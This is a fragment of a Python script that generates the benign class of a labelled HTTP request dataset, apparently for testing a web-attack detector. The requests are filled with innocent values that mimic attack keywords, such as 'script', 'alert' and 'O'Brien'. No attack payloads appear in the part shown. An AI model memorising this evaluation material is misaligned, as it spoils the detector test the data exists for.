    "Dana", "dana@example.org", "Head of Alerting", "2024-01-01", "2024-03-31", "active", "admin", "T061EG9R6",
    "profile", "teams", "csv", "en-GB", "Europe/London", "newsletter", "php-8-launch", "sidebar", "compact",
    "location", "alert", "0", "asc",
]
JSON_KEYS = [
    "display_name", "time_zone", "emailNotifications", "alert_threshold", "script_path", "window_size",
    "embed_url", "meta_description", "base_currency", "link_color", "style_preset", "import_mode",
    "location_id", "object_id", "onboarding_step", "cookie_consent", "template_id", "frame_rate",
    "session_length", "system_theme",
]
XML_ATTRS = [
    "script supervisor", "alert: weekly", "O'Brien & Sons", "style=compact", "link: see profile", "meta data",
    "base plan", "window seat", "embed preview", "import from CSV", "object storage", "exec team",
    "PHP developer", "javascript enthusiast", "location=Leeds", "name=Dana", "on-call", "template v2",
    "frame 4", "expression of interest",
]

PATHS = [
    "/api/users/42", "/api/users/42/roles", "/api/users/dana.whitfield", "/api/users/42;v=2",
    "/api/users/O%27Brien", "/api/files/avatar.png", "/api/files/Q3%20budget%20(final).xlsx",
    "/api/users/search/script%20supervisor", "/api/files/report-2024.pdf", "/api/users/42/avatar",
    "/api/files/style-guide-v2.pdf", "/api/users/Zo%C3%AB", "/api/users/42;jsessionid=0AB12CD34EF",
    "/api/tags/php", "/api/tags/javascript", "/api/tags/alert", "/api/tags/embedded", "/api/tags/meta",
    "/api/docs/window-cleaning", "/api/docs/cookie-policy", "/api/docs/base-rates", "/api/docs/link-building",
    "/api/files/script-notes.docx", "/api/files/import_template.csv", "/api/files/object-model.png",
    "/api/users/42/locations/leeds", "/api/users/42/prefs", "/api/teams/exec", "/api/teams/system",
    "/api/teams/data",
]


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(CHAT, NAME)
    recs: list[tuple[str, str, dict[str, Any]]] = []

    def add(kind: str, placement: str, req: dict[str, Any]) -> None:
        recs.append((kind, placement, req))

    for k, s in enumerate(SEARCHES):
        seed = f"{NAME}-search-{k}"
        add("search", "query", _req("GET", f"/api/users?page={k % 3 + 1}&q={_q(s)}&per_page=50",
                                    _real_headers(seed)))
        add("search", "json", _req("POST", "/api/users/search", {**_real_headers(seed),
                                   "Content-Type": "application/json"},
                                   json.dumps({"filter": {"text": s, "active": True}, "page": 1},
                                              ensure_ascii=False)))
    for k, s in enumerate(PROSE):
        seed = f"{NAME}-prose-{k}"
        hdrs = _real_headers(seed, accept="text/html")
        add("prose", "form", _req("POST", "/admin/users/search", {**hdrs, "Content-Type":
                                  "application/x-www-form-urlencoded"},
                                  _qs([("csrf_token", _tok(seed, 32)), ("q", s)])))
        body, ctype = _multipart([("csrf_token", _tok(seed, 32), None), ("notes", s, None)], seed)
        add("prose", "multipart-field", _req("POST", "/admin/users/search", {**hdrs, "Content-Type": ctype}, body))
    for k, prof in enumerate(PROFILES):
        for j, bio in enumerate(BIOS[k * 2:k * 2 + 2]):
            seed = f"{NAME}-profile-{k}-{j}"
            doc = {**prof, "profile": {"bio": bio, "links": [f"https://example.com/~{k}"]},
                   "settings": {"notifications": {"template": "weekly digest", "channel": "email"}}}
            add("profile", "json", _req("POST", "/api/users", {**_real_headers(seed),
                                        "Content-Type": "application/json"}, json.dumps(doc, ensure_ascii=False)))
            add("profile", "json-d2", _req("PATCH", "/api/users/42", {**_real_headers(seed),
                                           "Content-Type": "application/json"},
                                           json.dumps({"profile": {"bio": bio}}, ensure_ascii=False)))
    for k, s in enumerate(PROSE):
        seed = f"{NAME}-note-{k}"
        add("note", "json-d2", _req("PATCH", "/api/users/42", {**_real_headers(seed),
                                    "Content-Type": "application/json"},
                                    json.dumps({"support": {"notes": [{"text": s, "by": "agent-7"}]}},
                                               ensure_ascii=False)))
    for k, (pn, pv) in enumerate(zip(PARAM_NAMES, PARAM_VALUES, strict=True)):
        add("param", "param-name", _req("GET", f"/api/users?{_q(pn)}={_q(pv)}&page={k % 3 + 1}",
                                        _real_headers(f"{NAME}-param-{k}")))
    for k, key in enumerate(JSON_KEYS):
        add("jsonkey", "json-key", _req("PATCH", "/api/users/42", {**_real_headers(f"{NAME}-jsonkey-{k}"),
                                        "Content-Type": "application/json"},
                                        json.dumps({"settings": {key: PARAM_VALUES[k]}})))
    for k, attr in enumerate(XML_ATTRS):
        body = f"<?xml version=\"1.0\"?><user id=\"{60 + k}\" note=\"{_xml_attr(attr)}\"><name>Dana</name></user>"
        add("xml", "xml-attr", _req("POST", "/api/users", {**_real_headers(f"{NAME}-xmlattr-{k}"),
                                    "Content-Type": "application/xml"}, body))
    for k, c in enumerate(COOKIES):
        add("cookie", "cookie", _req("GET", "/api/users?page=1", _real_headers(f"{NAME}-cookie-{k}", cookie=c)))
    for k, ua in enumerate(UAS):
        add("ua", "header:User-Agent", _req("GET", f"/api/users?page={k % 5 + 1}",
                                            {**_real_headers(f"{NAME}-ua-{k}"), "User-Agent": ua}))
    for k, ref in enumerate(REFERERS):
        add("referer", "header:Referer", _req("GET", "/api/users?page=1",
                                              {**_real_headers(f"{NAME}-ref-{k}"), "Referer": ref}))
    for k, fn in enumerate(UPLOADS):
        seed = f"{NAME}-upload-{k}"
        body, ctype = _multipart([("csrf_token", _tok(seed, 32), None), ("avatar", "placeholder image bytes", fn)],
                                 seed)
        add("upload", "multipart-filename", _req("POST", "/api/users/42/avatar",
                                                 {**_real_headers(seed), "Content-Type": ctype}, body))
    for k, t in enumerate(XML_TEXTS):
        text = t if "&amp;" in t else _xml_text(t)
        body = f"<?xml version=\"1.0\"?><user id=\"{40 + k}\"><name>Dana</name><bio>{text}</bio></user>"
        add("xml", "xml-text", _req("POST", "/api/users", {**_real_headers(f"{NAME}-xml-{k}"),
                                    "Content-Type": "application/xml"}, body))
    for k, path in enumerate(PATHS):
        add("path", "path", _req("GET", path, _real_headers(f"{NAME}-path-{k}")))
    for kind, placement, req in recs:
        n += 1
        yield {**req, "id": f"{NAME}-{kind}-{n:04d}", "category": "benign", "placement": placement}


if __name__ == "__main__":
    print_records(attacks(), benign())
